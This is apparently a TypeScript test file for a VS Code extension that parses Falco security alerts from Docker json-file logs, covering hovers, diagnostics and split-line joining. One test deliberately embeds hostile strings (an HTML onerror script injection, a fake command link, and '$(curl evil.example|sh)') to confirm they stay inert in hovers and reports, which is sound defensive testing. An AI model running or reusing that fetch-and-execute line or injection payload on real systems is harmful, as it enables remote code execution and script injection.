// Docker json-file log lines (`{"log":"<payload>\n","stream":"stdout","time":"…"}`) are unwrapped like the
// container-runtime prefix: the payload is a string-escaped JSON alert, a text alert or a Falco log line, and lines
// that Docker split at 16 KB (no trailing \n in "log") are joined.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DiagnosticSeverity, type Diagnostic, type Hover } from 'vscode-languageserver-types';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { createAlertsService } from '../../server/src/service/alerts';
import { AlertDocumentIndex } from '../../server/src/service/alerts/documentIndex';
import { unwrapDockerLine } from '../../server/src/service/alerts/parse';
import { TestHost, alertDoc, fakeRules, fixture, ruleSummaries, hostileProblems, corpusExists, STABLE_RULES } from '../fixtures/alerts/helpers';

const md = (h: Hover | null | undefined) => (h ? (h.contents as { value: string }).value : '');
const errors = (d: Diagnostic[]) => d.filter((x) => x.severity === DiagnosticSeverity.Error && x.code !== 'falco-alert');
const wrap = (log: string, stream = 'stdout') => JSON.stringify({ log, stream, time: '2024-06-10T14:47:07.119004113Z' });

test('unwrapDockerLine decodes the payload, drops the trailing line break and tells split lines apart', () => {
  const full = unwrapDockerLine(wrap('a "b"\n'))!;
  assert.equal(full.payload, 'a "b"');
  assert.equal(full.continued, false);
  assert.equal(full.stream, 'stdout');
  assert.equal(wrap('a "b"\n').slice(full.logStart, full.logEnd), '"a \\"b\\"\\n"');
  assert.equal(unwrapDockerLine(wrap('part', 'stderr'))!.continued, true);
  assert.equal(unwrapDockerLine('{"rule":"x"}'), undefined);
  assert.equal(unwrapDockerLine('{"log":"cut'), undefined);
  assert.equal(unwrapDockerLine('{"log":5,"stream":"stdout"}'), undefined);
});

test('a Docker json-file log parses with no error: JSON, text and split alerts; Falco log lines are not alerts', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const doc = alertDoc('falco-docker.log', fixture('falco-docker.log'));
  assert.deepEqual(errors(s.diagnostics(doc)).map((d) => d.message), []);
  const index = s.index(doc);
  assert.deepEqual(index.roles.map((r) => r.kind), ['lifecycle', 'lifecycle', 'lifecycle', 'alert', 'alert', 'alert', 'continuation', 'alert', 'blank']);
  assert.deepEqual(index.alerts.map((a) => [a.line, a.endLine, a.head.format, a.head.rule ?? a.head.head]), [
    [3, 3, 'json', 'Create Symlink Over Sensitive Files'],
    [4, 4, 'text', 'Executing binary not part of base image'],
    [5, 6, 'json', 'Drop and execute new binary in container'],
    [7, 7, 'json', 'Create Symlink Over Sensitive Files'],
  ]);
  // The joined payload is the JSON alert exactly as Falco wrote it (19-digit evt.time digits kept).
  assert.equal(index.alerts[2].text, fixture('falco-0.44.json').split('\n')[0]);
});

test('hovers inside an escaped payload land on the right field and map back to the document\'s columns', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const text = fixture('falco-docker.log');
  const doc = alertDoc('d.log', text);
  const lines = text.split('\n');
  // "proc.pname":"bash" inside the escaped JSON of line 3.
  const key = lines[3].indexOf('\\"proc.pname\\"');
  const value = lines[3].indexOf('\\"bash\\"', key);
  const hover = s.hover!(doc, { line: 3, character: value + 3 });
  assert.match(md(hover), /`proc\.pname`/);
  assert.match(md(hover), /Value: `bash`/);
  assert.deepEqual(hover!.range, { start: { line: 3, character: value }, end: { line: 3, character: value + '\\"bash\\"'.length } });
  // The second half of a split alert.
  const cwd = lines[6].indexOf('/root/');
  const second = s.hover!(doc, { line: 6, character: cwd + 1 });
  assert.match(md(second), /`proc\.cwd`/);
  assert.equal(second!.range!.start.line, 6);
  // A text payload: the priority word.
  const priority = s.hover!(doc, { line: 4, character: lines[4].indexOf('Critical') + 2 });
  assert.match(md(priority), /\*\*Priority Critical\*\*/);
  assert.equal(priority!.range!.start.character, lines[4].indexOf('Critical'));
  // The wrapper itself is not part of the alert.
  assert.equal(s.hover!(doc, { line: 3, character: 2 }), null);
});

test('a hostile alert inside the Docker wrapper stays inert in hovers and the report', () => {
  const s = createAlertsService(new TestHost(), fakeRules(corpusExists ? ruleSummaries(STABLE_RULES) : []));
  const text = fixture('falco-docker.log');
  const line = text.split('\n')[7];
  for (const needle of ['<b>node', 'command:falcoLens.evil', 'onerror', '$(curl']) {
    const col = line.indexOf(needle);
    assert.ok(col > 0, needle);
    assert.deepEqual(hostileProblems(md(s.hover!(alertDoc('d.log', text), { line: 7, character: col + 1 }))), [], needle);
  }
  const report = s.report(text, 'file:///logs/d.log');
  // The log is not in time order: the summary spans the earliest to the latest dated alert.
  assert.match(report, /^# Falco incident report\n\n4 alerts from `d\.log`, `2024-06-10 14:45:13\.552380417 UTC` to `2024-06-10 14:47:07\.118224033 UTC`/);
  assert.deepEqual(hostileProblems(report), []);
  assert.ok(report.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'") || !report.includes('$(curl evil'));
});

test('errors inside an escaped payload point at the exact spot of the line', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const line = wrap('{"rule":"R","priority":"Loud","time":"2024-06-10T14:47:07.1Z","output":"x"}\n');
  const [d] = s.diagnostics(alertDoc('e.log', line)).filter((x) => x.code === 'unknown-priority');
  assert.ok(d, 'unknown priority reported');
  assert.equal(line.slice(d.range.start.character, d.range.end.character), '\\"Loud\\"');
  const cut = wrap('{"rule":"R","prio');
  const truncated = s.diagnostics(alertDoc('t.log', cut)).find((x) => x.code === 'json-truncated');
  assert.ok(truncated);
  assert.equal(truncated.range.start.line, 0);
});

test('a split line that nothing completes is reported once, as information', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const json = fixture('falco-0.44.json').split('\n')[1];
  const text = `${wrap(json.slice(0, 100))}\n${wrap(json.slice(100, 200))}`;
  const problems = s.diagnostics(alertDoc('p.log', text)).filter((d) => d.code === 'partial-unterminated');
  assert.equal(problems.length, 1);
  assert.equal(problems[0].severity, DiagnosticSeverity.Information);
  assert.equal(problems[0].range.start.line, 1);
});

test('editing one half of a split Docker line re-joins the alert; other lines are not re-parsed', () => {
  const text = fixture('falco-docker.log');
  const index = new AlertDocumentIndex();
  index.update(text, 1);
  const lines = text.split('\n');
  lines[6] = lines[6].replace('/root/', '/srv/');
  const stats = index.update(lines.join('\n'), 2);
  assert.equal(stats.parsedLines, 1);
  assert.equal(index.alerts.length, 4);
  assert.ok(index.alerts[2].text.includes('"proc.cwd":"/srv/"'));
  const doc = TextDocument.create('file:///logs/d.log', 'falco-alerts', 2, lines.join('\n'));
  const s = createAlertsService(new TestHost(), fakeRules([]));
  assert.match(md(s.hover!(doc, { line: 6, character: lines[6].indexOf('/srv/') + 1 })), /Value: `\/srv\/`/);
});
